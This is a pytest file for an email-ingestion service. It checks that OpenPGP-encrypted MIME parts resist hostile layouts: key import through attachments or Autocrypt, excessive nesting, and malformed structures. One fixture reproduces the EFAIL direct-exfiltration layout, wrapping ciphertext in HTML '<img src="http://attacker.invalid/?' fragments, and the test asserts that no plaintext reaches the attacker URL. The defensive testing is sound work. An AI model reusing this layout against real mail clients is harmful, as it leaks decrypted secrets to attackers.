"""Hostile MIME layouts around OpenPGP parts (THREATS C4, C5, C15, B1)."""

from __future__ import annotations

import base64

import pytest

from ingestd.config.schema import CpcEntry, PolicyConfig
from ingestd.errors import Quarantine
from ingestd.openpgp import Gpg, unwrap

from .conftest import Keys, encrypt, entity_bytes, gnupg, headers, inner_entity, keyring_state, multipart_raw

POLICY = PolicyConfig()


def encrypted_entity(ciphertext: bytes) -> bytes:
    return (b'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="inner-enc"\r\n\r\n'
            b"--inner-enc\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n"
            b"--inner-enc\r\nContent-Type: application/octet-stream\r\n\r\n" + ciphertext + b"\r\n--inner-enc--\r\n")


def test_efail_direct_exfiltration_layout(keys: Keys, gpg: Gpg, cpc: CpcEntry) -> None:
    """[html "<img src=...?"] [encrypted] [html '">']: every part on its own, nothing joined."""
    secret = b"Secret line for the exfiltration test\r\n"
    opening = b'Content-Type: text/html\r\n\r\n<img src="http://attacker.invalid/?'
    closing = b'Content-Type: text/html\r\n\r\n">'
    raw = multipart_raw("multipart/mixed", "efail", [
        opening, encrypted_entity(encrypt(keys, b"Content-Type: text/plain\r\n\r\n" + secret)), closing,
        encrypted_entity(encrypt(keys, b"Content-Type: text/plain\r\n\r\nsecond encrypted part\r\n")),
    ])
    result = unwrap(raw, gpg, cpc, POLICY)
    assert [p.from_encrypted for p in result.parts] == [False, True, False, True]
    assert result.parts[1].data == secret
    assert result.parts[3].data == b"second encrypted part\r\n"
    assert result.parts[0].data.endswith(b"?") and result.parts[2].data == b'">'
    for part in result.parts:
        assert not (b"attacker" in part.data and b"Secret" in part.data)
    assert result.crypto.encrypted is False  # plain HTML around it: the message is not "encrypted"


def test_encrypted_part_as_only_child_keeps_message_encrypted(keys: Keys, gpg: Gpg, cpc: CpcEntry) -> None:
    inner = encrypted_entity(encrypt(keys, entity_bytes(inner_entity())))
    raw = multipart_raw("multipart/mixed", "one", [inner])
    assert unwrap(raw, gpg, cpc, POLICY).crypto.encrypted is True


def test_attached_keys_and_autocrypt_are_never_imported(keys: Keys, gpg: Gpg, cpc: CpcEntry) -> None:
    """THREATS C15: keys in mail, even for a registered identity, leave the keyring as it was."""
    sender = gnupg.GPG(gnupghome=str(keys.sender_home))
    newcomer = sender.export_keys(keys.unknown)  # a key the intake keyring does not hold
    autocrypt = "Autocrypt: addr=sender@cpc.test.invalid; keydata=" + "".join(
        newcomer.splitlines()[2:-2]) + "\r\n"
    keys_part = b"Content-Type: application/pgp-keys\r\n\r\n" + newcomer.encode()
    disguised = b'Content-Type: text/plain\r\nContent-Disposition: attachment; filename="key.txt"\r\n\r\n' + \
        newcomer.encode()
    body = b"Content-Type: text/plain\r\n\r\nHello\r\n"
    before = keyring_state(keys.intake_home)
    result = unwrap(multipart_raw("multipart/mixed", "k-b", [body, keys_part, disguised], autocrypt), gpg, cpc, POLICY)
    assert keyring_state(keys.intake_home) == before
    assert [p.data for p in result.parts] == [b"Hello\r\n"]
    # The signature by that key therefore still cannot be checked.
    ciphertext = encrypt(keys, entity_bytes(inner_entity()), sign_with=keys.unknown)
    raw = multipart_raw("multipart/mixed", "k-c", [keys_part, encrypted_entity(ciphertext)], autocrypt)
    assert unwrap(raw, gpg, cpc, POLICY).crypto.verdict == "unsigned"  # not credited: sibling part
    assert keyring_state(keys.intake_home) == before


def test_png_attachment_is_not_taken_for_openpgp(gpg: Gpg, cpc: CpcEntry) -> None:
    png = b"\x89PNG\r\n\x1a\n" + bytes(range(256))
    part = b"Content-Type: image/png\r\nContent-Transfer-Encoding: base64\r\n\r\n" + \
        base64.encodebytes(png).replace(b"\n", b"\r\n")
    result = unwrap(multipart_raw("multipart/mixed", "p", [part]), gpg, cpc, POLICY)
    assert [p.data for p in result.parts] == [png]


def test_deep_nesting_is_quarantined_not_a_crash(gpg: Gpg, cpc: CpcEntry) -> None:
    depth = 60
    opening = b"".join(f'Content-Type: multipart/mixed; boundary="b{i}"\r\n\r\n--b{i}\r\n'.encode()
                       for i in range(depth))
    closing = b"".join(f"\r\n--b{i}--".encode() for i in reversed(range(depth)))
    raw = headers("text/plain").split(b"Content-Type")[0] + opening + b"Content-Type: text/plain\r\n\r\nx" + closing
    with pytest.raises(Quarantine) as caught:
        unwrap(raw, gpg, cpc, POLICY)
    assert caught.value.reason == "mime-depth"


@pytest.mark.parametrize("raw", [
    b"",
    b"\x00\xff\xfe garbage without headers",
    b"Content-Type: multipart/mixed\r\n\r\n--\r\nno boundary at all\r\n",
    b"Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; boundary=x\r\n\r\n--x\r\nonly one\r\n",
    b"Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=x\r\n\r\n--x--\r\n",
    b"Content-Type: text/plain; charset=\"unknown-8bit-xx\"\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!!\r\n",
])
def test_broken_structures_never_crash(raw: bytes, gpg: Gpg, cpc: CpcEntry) -> None:
    try:
        result = unwrap(raw, gpg, cpc, POLICY)
    except Quarantine as exc:
        assert exc.reason in ("malformed-mime", "undecryptable", "mime-depth")
    else:
        assert result.crypto.verdict in ("unsigned", "bad-signature")
